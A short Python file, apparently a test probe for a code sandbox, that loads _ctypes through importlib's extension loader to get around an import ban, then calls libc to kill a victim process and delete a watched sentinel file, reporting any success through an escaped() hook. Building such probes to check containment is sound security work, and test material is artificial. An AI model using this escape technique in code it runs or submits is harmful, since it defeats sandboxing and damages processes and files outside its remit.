"""load _ctypes without `import`: importlib machinery on the extension file, then use libc to reach the
victim process and the watched directory (native code is allowed in the jail: only reaching out counts)."""
# tags: guard
import glob, importlib.machinery, importlib.util, sys
for path in glob.glob(sys.base_prefix + "/lib/python3*/lib-dynload/_ctypes*.so"):
    try:
        loader = importlib.machinery.ExtensionFileLoader("_ctypes", path)
        spec = importlib.util.spec_from_file_location("_ctypes", path, loader=loader)
        mod = importlib.util.module_from_spec(spec)
        loader.exec_module(mod)
        import ctypes
        libc = ctypes.CDLL(None)
        if libc.kill(VICTIM_PID, 9) == 0:
            escaped("killed the victim via _ctypes")
        if libc.unlink((SENTINEL).encode()) == 0:
            escaped("deleted the sentinel via _ctypes")
    except Exception:
        pass
def solve(x):
    return x
